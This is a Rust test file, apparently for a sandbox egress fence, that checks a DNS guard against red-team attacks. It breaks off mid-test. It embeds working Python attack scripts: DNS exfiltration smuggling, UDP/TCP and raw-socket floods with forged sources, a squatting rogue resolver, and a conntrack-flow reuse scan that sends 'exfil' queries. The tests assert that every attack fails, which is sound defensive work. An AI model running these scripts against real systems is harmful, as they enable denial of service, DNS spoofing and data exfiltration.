//! The DNS guard under attack from inside the fence: its uid is no pass to the upstream
//! resolvers (item 3), the bytes it forwards are its own (item 9), and one client cannot
//! starve the others (item 10). Red-team review 2: nobody reuses the guard's closed upstream
//! flows, over UDP or with ICMP errors, and a squatter that sets the guard's mark answers
//! nobody.

use std::net::IpAddr;
use std::time::Duration;

use crate::common::*;

/// A guard-mode policy: `*.pool.example` on TCP 80, forwarding to `upstream`, answering on
/// [`GUARD_ADDR`].
fn guard_policy(upstream: &[IpAddr]) -> String {
    let upstream: Vec<String> = upstream.iter().map(ToString::to_string).collect();
    format!(
        "version: 1\nallow:\n  - domain: \"*.pool.example\"\n    ports: [80]\ndns:\n  mode: guard\n  \
         listen: [\"{GUARD_ADDR}\"]\n  upstream: [{}]\n",
        upstream.join(", ")
    )
}

/// Who tries: full root (the guard's uid; its dig sets no mark either) or an adversary.
#[derive(Debug, Clone, Copy)]
enum Who {
    Root,
    Adversary(Adversary),
}

/// Full root, root without the capabilities that set marks, and an unprivileged user.
const EVERYONE: [Who; 3] = [
    Who::Root,
    Who::Adversary(Adversary::RootWithoutNetAdminOrNetRaw),
    Who::Adversary(Adversary::Nobody),
];

fn run_as(w: &World, who: Who, args: &[&str]) -> CmdOutput {
    match who {
        Who::Root => w.sandbox_cmd(args),
        Who::Adversary(adversary) => w.adversary_cmd(adversary, args),
    }
}

/// `dig @server -p port name A` (`+tcp` if asked) as `who`: whether any reply came back.
fn dig_answered(w: &World, who: Who, server: IpAddr, port: u16, name: &str, tcp: bool) -> bool {
    dig_output(w, who, server, port, name, tcp).contains("->>HEADER<<-")
}

/// Whether the guard answered `name` NOERROR to `who`.
fn guard_answers(w: &World, who: Who, name: &str, tcp: bool) -> bool {
    dig_output(w, who, GUARD_ADDR.ip(), 53, name, tcp).contains("status: NOERROR")
}

fn dig_output(w: &World, who: Who, server: IpAddr, port: u16, name: &str, tcp: bool) -> String {
    let (at, port) = (format!("@{server}"), port.to_string());
    let mut args = vec!["dig", "+tries=1", "+time=2", &at, "-p", &port, name, "A"];
    if tcp {
        args.push("+tcp");
    }
    run_as(w, who, &args).stdout
}

/// Item 3: in guard mode nobody in the sandbox reaches the upstream resolvers itself, the
/// guard's uid included (the guard runs as root here, like `World::spawn_guard` does): not
/// over UDP or TCP, not on 53 or 853, not over IPv4 or IPv6, while the guard, whose upstream
/// sockets carry its mark, keeps answering over UDP and TCP, to IPv4 and IPv6 upstreams. On
/// the old main (the uid alone) every root attempt was answered.
#[test]
fn nobody_but_the_guards_marked_sockets_reaches_the_upstream() {
    let w = World::new();
    w.dns_set("direct.pool.example", &[HOST_V4], DEFAULT_DNS_TTL);
    for (i, name) in ["via-guard.pool.example", "via-guard-v6.pool.example"]
        .iter()
        .enumerate()
    {
        w.dns_set(name, &[[HOST2_V4, HOST3_V4][i]], DEFAULT_DNS_TTL);
    }
    let dot = [
        w.listen_tcp(DNS_V4, 853),
        w.listen_udp(DNS_V4, 853),
        w.listen_tcp(DNS_V6, 853),
        w.listen_udp(DNS_V6, 853),
    ];
    // Control: without a table every one of them gets through.
    for who in EVERYONE {
        assert!(
            dig_answered(&w, who, DNS_V4, 53, "direct.pool.example", false),
            "control: {who:?} cannot reach the resolver at all"
        );
    }

    let path = w.write_file("guard.yaml", &guard_policy(&[DNS_V4, DNS_V6]));
    let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
    let before = w.dns_query_log().len();
    for who in EVERYONE {
        for server in [DNS_V4, DNS_V6] {
            for port in [53, 853] {
                for tcp in [false, true] {
                    assert!(
                        !dig_answered(&w, who, server, port, "direct.pool.example", tcp),
                        "{who:?} reached {server} port {port} (tcp: {tcp}) around the guard"
                    );
                }
            }
        }
    }
    for listener in &dot {
        assert_eq!(
            listener.count(),
            0,
            "port 853 at {} was reached",
            listener.local_addr()
        );
    }

    // A mark cannot be forged without CAP_NET_ADMIN (or CAP_NET_RAW): setting the guard's
    // mark fails, so the attacker's sockets stay unmarked.
    let forge = w.adversary_cmd(
        Adversary::RootWithoutNetAdminOrNetRaw,
        &[
            PYTHON,
            "-c",
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             try:\n    s.setsockopt(socket.SOL_SOCKET, 36, 0x65000000)\n    print('marked')\n\
             except PermissionError:\n    print('EPERM')\n",
        ],
    );
    assert_eq!(forge.stdout.trim(), "EPERM", "{forge}");

    // The guard itself still asks upstream, over UDP and TCP, for every one of them.
    for who in EVERYONE {
        for tcp in [false, true] {
            assert!(
                guard_answers(&w, who, "via-guard.pool.example", tcp),
                "the guard did not answer {who:?} (tcp: {tcp}):\n{}",
                guard.stderr()
            );
        }
    }
    let asked: Vec<DnsQuery> = w.dns_query_log().split_off(before);
    assert!(
        !asked
            .iter()
            .any(|q| q.name.to_ascii_lowercase().contains("direct")),
        "a client other than the guard asked the upstream resolver: {asked:?}"
    );
    assert!(
        asked
            .iter()
            .any(|q| q.name.eq_ignore_ascii_case("via-guard.pool.example"))
    );
    drop(guard);

    // An IPv6 upstream: the guard's marked IPv6 sockets get through, over UDP and TCP.
    let path = w.write_file("guard6.yaml", &guard_policy(&[DNS_V6]));
    let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
    for tcp in [false, true] {
        assert!(
            guard_answers(
                &w,
                Who::Adversary(Adversary::Nobody),
                "via-guard-v6.pool.example",
                tcp
            ),
            "the guard did not answer over an IPv6 upstream (tcp: {tcp}):\n{}",
            guard.stderr()
        );
        assert!(!dig_answered(
            &w,
            Who::Adversary(Adversary::RootWithoutNetAdminOrNetRaw),
            DNS_V6,
            53,
            "direct.pool.example",
            tcp
        ));
    }
    drop(guard);
}

/// Sends a query for `name` to the guard that smuggles `secret` in an EDNS option (code
/// 65001), an answer record, an additional record and trailing bytes, over UDP or TCP, and
/// prints the reply's rcode (or "none").
const SMUGGLE: &str = r#"
import socket, struct, sys
name, secret, tcp = sys.argv[1], sys.argv[2].encode(), sys.argv[3] == "tcp"
qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
txt = bytes([len(secret)]) + secret
rr = b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 60, len(txt)) + txt
opt = b"\0" + struct.pack(">HHIH", 41, 4096, 0, 4 + len(secret)) + struct.pack(">HH", 65001, len(secret)) + secret
msg = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 1, 0, 2) + qname + struct.pack(">HH", 1, 1) + rr + rr + opt + secret
if tcp:
    s = socket.create_connection(("127.0.0.53", 53), timeout=8)
    s.sendall(struct.pack(">H", len(msg)) + msg)
    try:
        reply = s.recv(65535)[2:]
    except OSError:
        reply = b""
else:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(8)
    s.sendto(msg, ("127.0.0.53", 53))
    try:
        reply = s.recv(65535)
    except OSError:
        reply = b""
print(reply[3] & 15 if len(reply) >= 4 and reply[:2] == b"\x42\x42" else "none")
"#;

/// Item 9: what reaches the upstream is a query the guard built from the question it
/// checked: not the client's EDNS option, records or trailing bytes (on the old main the
/// whole datagram went upstream as it came, id aside), over UDP and over TCP.
#[test]
fn the_guard_forwards_only_the_checked_question() {
    let w = World::new();
    // A capturing upstream: records what it gets and never answers a DNS message.
    let udp = w.listen_udp(HOST3_V4, 53);
    let tcp = w.listen_tcp(HOST3_V4, 53);
    let path = w.write_file("guard.yaml", &guard_policy(&[HOST3_V4]));
    let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
    const SECRET: &str = "exfiltrated-0123456789-abcdefghij";
    for (transport, listener) in [("udp", &udp), ("tcp", &tcp)] {
        let name = format!("smuggle-{transport}.pool.example");
        let out = w.sandbox_cmd_as(NOBODY, &[PYTHON, "-c", SMUGGLE, &name, SECRET, transport]);
        assert!(out.success(), "{out}");
        assert!(
            listener.wait_for(1, Duration::from_secs(5)),
            "nothing reached the upstream over {transport}:\n{}",
            guard.stderr()
        );
        let hit = &listener.hits()[0];
        let sent = &hit.data;
        let contains = |needle: &[u8]| sent.windows(needle.len()).any(|window| window == needle);
        assert!(
            contains(b"smuggle-".as_slice()),
            "the question went upstream over {transport}: {sent:?}"
        );
        assert!(
            !contains(SECRET.as_bytes()),
            "the client's bytes went upstream over {transport}: {sent:?}"
        );
    }
    drop(guard);
}

/// The UDP flood of item 10, from one client (one uid, from 16 loopback addresses) for
/// `argv[1]` seconds: each second
/// 1,100 oversize queries (a question for an allowed name padded to 4,000 bytes) and 1,100
/// queries for allowed names that the upstream never answers, paced in slices of 10 ms (a
/// burst would only overflow the socket), replies unread. Prints what it sent each second.
const UDP_FLOOD: &str = r#"
import socket, struct, sys, time
seconds = float(sys.argv[1])
def query(name, qid):
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid & 0xffff, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1)
guard = ("127.0.0.53", 53)
# From 16 loopback addresses: a local client is its uid, whatever address it sends from.
socks = []
for i in range(16):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((f"127.0.1.{i + 1}", 0))
    u.setblocking(False)
    socks.append(u)
oversize = query("flood.pool.example", 1) + b"\xff" * 4000
print("flooding", flush=True)
sent, n, start = 0, 0, time.monotonic()
said = start
while time.monotonic() < start + seconds:
    due = int((time.monotonic() - start) * 1100)
    while n < due:
        udp = socks[n % len(socks)]
        for msg in (oversize, query(f"flood{n}.pool.example", n)):
            try:
                udp.sendto(msg, guard)
                sent += 1
            except OSError:
                pass
        n += 1
    for udp in socks:
        try:
            while udp.recv(65535):
                pass
        except OSError:
            pass
    if time.monotonic() - said >= 1:
        said = time.monotonic()
        print(f"{sent} datagrams sent", flush=True)
    time.sleep(0.01)
"#;

/// The TCP flood of item 10, from the same client (16 other loopback addresses) for
/// `argv[1]` seconds: 300 connections that send one byte and then nothing, reopened as the
/// guard closes them. Prints how many
/// are open each second.
const TCP_FLOOD: &str = r#"
import socket, sys, time
seconds = float(sys.argv[1])
guard = ("127.0.0.53", 53)
conns, opened, failed = [], 0, 0
start = time.monotonic()
said = start - 1
while time.monotonic() < start + seconds:
    alive = []
    for c in conns:
        try:
            if c.recv(1, socket.MSG_DONTWAIT) == b"":
                c.close()
                continue
        except BlockingIOError:
            pass
        except OSError:
            c.close()
            continue
        alive.append(c)
    conns = alive
    while len(conns) < 300 and time.monotonic() < start + seconds:
        try:
            source = (f"127.0.2.{opened % 16 + 1}", 0)
            c = socket.create_connection(guard, timeout=0.5, source_address=source)
            c.sendall(b"\0")
            conns.append(c)
            opened += 1
        except OSError:
            failed += 1
            break
    if time.monotonic() - said >= 1:
        said = time.monotonic()
        print(f"flooding: {len(conns)} connections open ({opened} opened, {failed} failed)", flush=True)
    time.sleep(0.05)
"#;

/// Another client (source 127.0.0.2): `argv[1]` UDP queries then `argv[2]` TCP queries (a
/// connection each) for `argv[3]`, one after another; prints each one's latency in
/// milliseconds, or "lost" and why.
const TIMED: &str = r#"
import socket, struct, sys, time
udp_n, tcp_n, name = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
guard = ("127.0.0.53", 53)
def query(qid):
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1)
def ok(reply, qid):
    return len(reply) >= 4 and struct.unpack(">H", reply[:2])[0] == qid and reply[3] & 15 == 0
for i in range(udp_n + tcp_n):
    qid = 1000 + i
    start = time.monotonic()
    try:
        if i < udp_n:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind(("127.0.0.2", 0))
            s.settimeout(2)
            s.sendto(query(qid), guard)
            reply = s.recv(65535)
        else:
            s = socket.create_connection(guard, timeout=2, source_address=("127.0.0.2", 0))
            msg = query(qid)
            s.sendall(struct.pack(">H", len(msg)) + msg)
            data = b""
            while len(data) < 2 or len(data) < 2 + struct.unpack(">H", data[:2])[0]:
                chunk = s.recv(65535)
                if not chunk:
                    break
                data += chunk
            reply = data[2:]
        s.close()
        took = (time.monotonic() - start) * 1000
        print(f"{took:.3f}" if ok(reply, qid) else f"lost: bad reply {reply[:4]!r}", flush=True)
    except OSError as e:
        print(f"lost: {e}", flush=True)
"#;

/// The latencies `TIMED` printed, in milliseconds, and the lines that are none.
fn latencies(out: &str) -> (Vec<f64>, Vec<String>) {
    let mut ms = Vec::new();
    let mut lost = Vec::new();
    for line in out.lines() {
        match line.trim().parse::<f64>() {
            Ok(v) => ms.push(v),
            Err(_) => lost.push(line.to_string()),
        }
    }
    (ms, lost)
}

/// An upstream resolver on `argv[1]` port 53, UDP and TCP, that answers every A question
/// with 192.0.2.11 (TTL 60) at once, except names starting with "flood", which it never
/// answers: each of those holds the guard's exchange until it gives up.
const SLOW_UPSTREAM: &str = r#"
import socket, struct, sys, threading
addr = sys.argv[1]
def answer(q):
    if len(q) < 12:
        return None
    end = 12
    while end < len(q) and q[end] != 0:
        end += q[end] + 1
    question = q[12:end + 5]
    if q[13:18].lower() == b"flood":
        return None
    header = q[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0)
    record = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 11])
    return header + question + record
def serve_udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 53))
    while True:
        q, peer = s.recvfrom(65535)
        a = answer(q)
        if a:
            s.sendto(a, peer)
def serve_conn(c):
    with c:
        while True:
            head = c.recv(2, socket.MSG_WAITALL)
            if len(head) < 2:
                return
            q = c.recv(struct.unpack(">H", head)[0], socket.MSG_WAITALL)
            a = answer(q)
            if a is None:
                return
            c.sendall(struct.pack(">H", len(a)) + a)
def serve_tcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 53))
    s.listen(1024)
    while True:
        c, _ = s.accept()
        threading.Thread(target=serve_conn, args=(c,), daemon=True).start()
threading.Thread(target=serve_udp, daemon=True).start()
threading.Thread(target=serve_tcp, daemon=True).start()
print("serving", flush=True)
threading.Event().wait()
"#;

/// A process in a namespace of the world, killed when dropped.
struct Spawned(std::process::Child);

impl Drop for Spawned {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Starts [`SLOW_UPSTREAM`] on `addr` in the world's net namespace, once it serves.
fn slow_upstream(w: &World, addr: IpAddr) -> Spawned {
    use std::io::BufRead;
    let mut child = std::process::Command::new("ip")
        .args(["netns", "exec", w.net_name(), PYTHON, "-c", SLOW_UPSTREAM])
        .arg(addr.to_string())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("start the slow upstream");
    let stdout = child.stdout.take().expect("piped");
    let spawned = Spawned(child);
    let mut line = String::new();
    std::io::BufReader::new(stdout)
        .read_line(&mut line)
        .expect("read the slow upstream's first line");
    assert_eq!(line.trim(), "serving", "the slow upstream did not start");
    spawned
}

/// Item 10: while one client (uid 4242, sending from 32 loopback addresses) floods the guard
/// with questions its upstream never answers (each holds a slot until the guard gives up),
/// oversize datagrams and one-byte TCP connections beyond the old cap, another client (uid
/// nobody, from 127.0.0.2) is answered, over UDP and TCP, with a p99 latency under 50 ms. On the old main the flood held every in-flight slot (the other
/// client's queries waited for one) and the idle connections every TCP slot.
#[test]
fn one_client_flooding_the_guard_does_not_starve_another() {
    let w = World::new();
    let _upstream = slow_upstream(&w, HOST3_V4);
    let path = w.write_file("guard.yaml", &guard_policy(&[HOST3_V4]));
    let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));

    // Before the flood: the timed client is answered at all.
    let calm = w.sandbox_cmd_as(
        NOBODY,
        &[PYTHON, "-c", TIMED, "5", "2", "timed.pool.example"],
    );
    let (ms, lost) = latencies(&calm.stdout);
    assert!(
        lost.is_empty() && ms.len() == 7,
        "without a flood: {calm}\nguard:\n{}",
        guard.stderr()
    );

    let flood = |script: &str| {
        let mut flood = w.spawn_adversary(Adversary::User(4242), &[PYTHON, "-c", script, "20"]);
        assert!(
            flood.wait_for_output("flooding", Duration::from_secs(15)),
            "the flood did not start: {}",
            flood.stderr()
        );
        flood
    };
    let mut udp_flood = flood(UDP_FLOOD);
    let mut tcp_flood = flood(TCP_FLOOD);
    // Let the flood take hold (on the old main: every slot held).
    std::thread::sleep(Duration::from_millis(2000));
    let timed = w.sandbox_cmd_as(
        NOBODY,
        &[PYTHON, "-c", TIMED, "200", "20", "timed.pool.example"],
    );
    let flooding = udp_flood.wait_timeout(Duration::from_millis(1)).is_none()
        && tcp_flood.wait_timeout(Duration::from_millis(1)).is_none();
    let flooded = format!("{}{}", udp_flood.stdout(), tcp_flood.stdout());
    drop((udp_flood, tcp_flood));
    let (mut ms, lost) = latencies(&timed.stdout);
    assert!(
        lost.is_empty(),
        "the other client lost {} of 220 queries during the flood (flood still running: \
         {flooding}):\n{}\n{timed}\nflood:\n{flooded}",
        lost.len(),
        lost.join("\n"),
    );
    assert!(
        flooding,
        "the flood ended before the timed client:\n{flooded}"
    );
    ms.sort_by(f64::total_cmp);
    let p99 = ms[(ms.len() * 99).div_ceil(100) - 1];
    eprintln!(
        "during the flood: {} queries, median {:.1} ms, p99 {p99:.1} ms, max {:.1} ms; \
         flood:\n{flooded}",
        ms.len(),
        ms[ms.len() / 2],
        ms[ms.len() - 1],
    );
    assert!(p99 < STARVED_MS, "p99 {p99:.1} ms during the flood: {ms:?}");
    drop(guard);
}

/// Root without CAP_NET_ADMIN but with CAP_NET_RAW (Docker's default root) forges, over a
/// raw socket for `argv[1]` seconds, queries the upstream never answers from `argv[2]`
/// source addresses 203.0.113.1 and up, each a client of its own by address. From the
/// red-team review of issue 10. Since round 4 the fence refuses a packet to this host from a
/// source not its own (EPERM here): the flood stays, so that the guard is shown to survive
/// it whichever way it is stopped; forged sources from a listed bridge still reach it.
const RAW_FLOOD: &str = r#"
import socket, struct, sys, time
secs, nsrc = float(sys.argv[1]), int(sys.argv[2])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def q(qid, name):
    qn = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qn + struct.pack(">HH", 1, 1)
dst = socket.inet_aton("127.0.0.53")
n, said, end = 0, 0, time.monotonic() + secs
while time.monotonic() < end:
    for i in range(nsrc):
        src = socket.inet_aton("203.0.113.%d" % (i + 1))
        p = q(n & 0xffff, "flood%d.pool.example" % n)
        udp = struct.pack(">HHHH", 10000 + n % 50000, 53, 8 + len(p), 0) + p
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
        try:
            s.sendto(ip + udp, ("127.0.0.53", 0))
        except PermissionError:
            pass
        n += 1
    if time.monotonic() - said >= 1:
        said = time.monotonic()
        print("flooding", n, flush=True)
    time.sleep(0.03)
"#;

/// A p99 at or above this during a flood is starvation. A starved client waits for a slot the
/// flood holds, which takes seconds; a busy 2-CPU test machine adds tens of milliseconds (a
/// 50 ms bound failed there once with nothing starved). Latency itself is benches/guard.rs's.
const STARVED_MS: f64 = 250.0;

/// Runs `floods` (each started once it prints "flooding") while the timed client (uid
/// nobody, 127.0.0.2) asks 200 UDP and 20 TCP queries; asserts it loses none and its p99 stays
/// under [`STARVED_MS`], as [`one_client_flooding_the_guard_does_not_starve_another`] measures.
fn timed_client_survives(w: &World, guard: &Background, floods: &[(Adversary, Vec<&str>)]) {
    let calm = w.sandbox_cmd_as(
        NOBODY,
        &[PYTHON, "-c", TIMED, "5", "2", "timed.pool.example"],
    );
    let (ms, lost) = latencies(&calm.stdout);
    assert!(
        lost.is_empty() && ms.len() == 7,
        "without a flood: {calm}\nguard:\n{}",
        guard.stderr()
    );
    let mut running: Vec<Background> = floods
        .iter()
        .map(|(who, args)| {
            let mut flood = w.spawn_adversary(*who, args);
            assert!(
                flood.wait_for_output("flooding", Duration::from_secs(15)),
                "the flood did not start: {}",
                flood.stderr()
            );
            flood
        })
        .collect();
    std::thread::sleep(Duration::from_secs(3));
    let timed = w.sandbox_cmd_as(
        NOBODY,
        &[PYTHON, "-c", TIMED, "200", "20", "timed.pool.example"],
    );
    let flooding = running
        .iter_mut()
        .all(|f| f.wait_timeout(Duration::from_millis(1)).is_none());
    let flooded: String = running.iter().map(|f| f.stdout()).collect();
    drop(running);
    let log = guard.stderr();
    let (mut ms, lost) = latencies(&timed.stdout);
    assert!(
        lost.is_empty(),
        "the other client lost {} of 220 queries during the flood (flood still running: \
         {flooding}):\n{}\nflood:\n{flooded}\nguard's descriptors ran out: {}",
        lost.len(),
        lost.join("\n"),
        log.contains("Too many open files"),
    );
    assert!(
        flooding,
        "the flood ended before the timed client:\n{flooded}"
    );
    assert!(!log.contains("Too many open files"), "guard:\n{log}");
    ms.sort_by(f64::total_cmp);
    let p99 = ms[(ms.len() * 99).div_ceil(100) - 1];
    eprintln!(
        "during the flood: {} queries, median {:.1} ms, p99 {p99:.1} ms",
        ms.len(),
        ms[ms.len() / 2]
    );
    assert!(p99 < STARVED_MS, "p99 {p99:.1} ms during the flood: {ms:?}");
}

/// Red team, item 1: root with CAP_NET_RAW forges queries from 64 source addresses; each
/// was a client of its own with 128 slots, so together they held every slot and another
/// local client lost queries. Now all clients known by address share two clients' worth.
#[test]
fn forged_sources_do_not_starve_a_local_client() {
    let w = World::new();
    let _upstream = slow_upstream(&w, HOST3_V4);
    let path = w.write_file("guard.yaml", &guard_policy(&[HOST3_V4]));
    let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
    let raw = (
        Adversary::RootWithoutNetAdmin,
        vec![PYTHON, "-c", RAW_FLOOD, "25", "64"],
    );
    timed_client_survives(&w, &guard, &[raw]);
}

/// Red team, item 2: under systemd's default limit of 1,024 open files (here as the hard
/// limit too, which the daemon cannot raise) the design limits (1,024 upstream sockets in
/// flight, 256 TCP clients) ran out of descriptors under the forged flood, and other
/// clients got SERVFAIL. Now the limits fit the descriptors the daemon may open.
#[test]
fn the_guard_fits_its_limits_to_the_open_files_allowed() {
    let w = World::new();
    let _upstream = slow_upstream(&w, HOST3_V4);
    let path = w.write_file("guard.yaml", &guard_policy(&[HOST3_V4]));
    let path = path.to_str().expect("utf-8 path");
    // In the sandbox, as systemd would start it with LimitNOFILE=1024.
    let mut guard = w.spawn_in_sandbox(&[
        "prlimit",
        "--nofile=1024:1024",
        "--",
        EGRESS_FENCE_BIN,
        "run",
        path,
    ]);
    assert!(
        guard.wait_for_output("the DNS guard is serving", Duration::from_secs(10)),
        "the guard did not start:\n{}",
        guard.stderr()
    );
    let raw = (
        Adversary::RootWithoutNetAdmin,
        vec![PYTHON, "-c", RAW_FLOOD, "25", "64"],
    );
    let as_user = |script| (Adversary::User(4242), vec![PYTHON, "-c", script, "25"]);
    timed_client_survives(&w, &guard, &[raw, as_user(UDP_FLOOD), as_user(TCP_FLOOD)]);
    guard.terminate();
    assert!(
        guard.stderr().contains("the limit of open files is low"),
        "the limits were fitted to 1,024 descriptors:\n{}",
        guard.stderr()
    );
}

/// A DNS server that uid nobody runs on 127.0.0.53:53 (UDP and TCP), answering every A
/// question with 203.0.113.66; prints "squatting" once bound and "asked" for each query.
const SQUATTER: &str = r#"
import socket, struct, threading
def answer(q):
    end = 12
    while end < len(q) and q[end] != 0:
        end += q[end] + 1
    header = q[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0)
    record = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([203, 0, 113, 66])
    return header + q[12:end + 5] + record
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("127.0.0.53", 53))
t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind(("127.0.0.53", 53))
t.listen(16)
def serve_tcp():
    while True:
        c, _ = t.accept()
        head = c.recv(2, socket.MSG_WAITALL)
        if len(head) == 2:
            q = c.recv(struct.unpack(">H", head)[0], socket.MSG_WAITALL)
            print("asked over tcp", flush=True)
            a = answer(q)
            try:
                c.sendall(struct.pack(">H", len(a)) + a)
            except OSError:
                pass
        c.close()
threading.Thread(target=serve_tcp, daemon=True).start()
print("squatting", flush=True)
while True:
    q, peer = u.recvfrom(65535)
    print("asked over udp", flush=True)
    try:
        u.sendto(answer(q), peer)
    except OSError as e:
        print("refused:", e, flush=True)
"#;

/// Red team, item 3: while the daemon is down (SIGTERM leaves the table), uid nobody, with
/// low ports open to everyone as in a container, binds the guard's address and answers
/// every query with an address of its choosing. The table refuses what leaves the guard's
/// address and port without the guard's mark, so the squatter answers nobody, over UDP or
/// TCP; the daemon's restart fails naming the problem, and succeeds once the squatter is
/// gone. On the old main every client took the squatter's answer.
#[test]
fn a_squatter_on_the_guards_address_answers_nobody() {
    let w = World::new();
    let _upstream = slow_upstream(&w, HOST3_V4);
    let path = w.write_file("guard.yaml", &guard_policy(&[HOST3_V4]));
    let path = path.to_str().expect("utf-8 path");
    let mut guard = w.spawn_guard(path);
    for tcp in [false, true] {
        assert!(
            guard_answers(&w, Who::Adversary(Adversary::Nobody), "a.pool.example", tcp),
            "the guard answers (tcp: {tcp}) from its marked sockets:\n{}",
            guard.stderr()
        );
    }
    guard.terminate();
    assert!(w.table_handle().is_some(), "SIGTERM leaves the table");
    let sysctl = w.sandbox_cmd(&["sysctl", "-w", "net.ipv4.ip_unprivileged_port_start=0"]);
    assert!(sysctl.success(), "{sysctl}");
    let mut squatter = w.spawn_adversary(Adversary::Nobody, &[PYTHON, "-c", SQUATTER]);
    assert!(
        squatter.wait_for_output("squatting", Duration::from_secs(10)),
        "the squatter did not bind: {}",
        squatter.stderr()
    );
    for who in EVERYONE {
        for tcp in [false, true] {
            let out = dig_output(&w, who, GUARD_ADDR.ip(), 53, "a.pool.example", tcp);
            assert!(
                !out.contains("203.0.113.66") && !out.contains("->>HEADER<<-"),
                "{who:?} (tcp: {tcp}) got the squatter's answer:\n{out}"
            );
        }
    }
    assert!(
        squatter.stdout().contains("asked over udp"),
        "the squatter was asked (its answers were refused): {}",
        squatter.stdout()
    );
    // The restart fails while the address is taken, and says why.
    let restart = w.egress_fence(&["run", path]);
    assert!(!restart.success(), "{restart}");
    assert!(
        restart.stderr.contains("cannot listen on 127.0.0.53:53")
            && restart.stderr.contains("held by a socket of uid 65534")
            && restart.stderr.contains("answers nobody"),
        "{restart}"
    );
    drop(squatter);
    let guard = w.spawn_guard(path);
    for tcp in [false, true] {
        assert!(
            guard_answers(&w, Who::Adversary(Adversary::Nobody), "a.pool.example", tcp),
            "the restarted guard answers (tcp: {tcp}):\n{}",
            guard.stderr()
        );
    }
}

/// Asks the guard an allowed name (so it opens, uses and closes an upstream socket), then
/// binds every free local port in turn and sends a question for a name outside the policy
/// straight to the upstream resolver (argv[1]; argv[2] "6" for an IPv6 socket). A port
/// without a conntrack entry is refused at once; the guard's closed port still had an
/// established entry. Prints "LEAK via port P" for each answer it gets.
const REUSE_GUARD_FLOW: &str = r#"
import socket, struct, time
upstream, family = sys.argv[1], sys.argv[2]
def q(name, qid):
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 16, 1)
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.settimeout(3)
c.sendto(q("via-guard.pool.example", 1), ("127.0.0.53", 53))
print('guard answered', len(c.recv(2000)), flush=True)
lo, hi = map(int, open('/proc/sys/net/ipv4/ip_local_port_range').read().split())
af, anywhere = (socket.AF_INET6, '::') if family == '6' else (socket.AF_INET, '0.0.0.0')
found = 0
for port in range(lo, hi + 1):
    s = socket.socket(af, socket.SOCK_DGRAM)
    try:
        s.bind((anywhere, port))
        s.sendto(q("secret-%d.exfil.example" % port, 0x4141), (upstream, 53))
    except OSError:
        s.close(); continue
    s.settimeout(2)
    try:
        data = s.recv(2000)
        print('LEAK via port', port, 'answer of', len(data), 'bytes', flush=True)
        found += 1
        for i in range(3):
            s.sendto(q("more-%d.exfil.example" % i, 0x4142 + i), (upstream, 53))
            print('  round trip', i, len(s.recv(2000)), flush=True)
    except OSError as e:
        print('port', port, 'sent but', e, flush=True)
    s.close()
    if found:
        break
print('scan done, found', found, flush=True)
"#;

/// Red team 2, F1: the guard's upstream flows outlive its sockets (conntrack keeps a replied
/// UDP flow established for about 30 s), and `ct state established,related accept` came
/// before the rule that lets only the guard ask: uid nobody, or root without CAP_NET_ADMIN and
/// CAP_NET_RAW, found the guard's old port by binding every free port and asked the IPv4 or
/// IPv6 upstream whatever it liked, renewing the flow with every packet. Now what goes to an
/// upstream from another uid, or from the guard's uid without its mark, is refused before the
/// replies are accepted; the guard keeps answering over UDP and TCP. On the old main the
/// upstream's log held the `exfil` names.
#[test]
fn nobody_reuses_the_guards_closed_upstream_flows() {
    let script = format!("{REFUSE_CAP_NET_ADMIN_PY}{REUSE_GUARD_FLOW}");
    for upstream in [DNS_V4, DNS_V6] {
        let w = World::new();
        w.dns_set("via-guard.pool.example", &[HOST2_V4], DEFAULT_DNS_TTL);
        let path = w.write_file("guard.yaml", &guard_policy(&[upstream]));
        let guard = w.spawn_guard(path.to_str().expect("utf-8 path"));
        let (up, family) = (
            upstream.to_string(),
            if upstream.is_ipv6() { "6" } else { "4" },
        );
        for who in [Adversary::Nobody, Adversary::RootWithoutNetAdminOrNetRaw] {
            let before = w.dns_query_log().len();
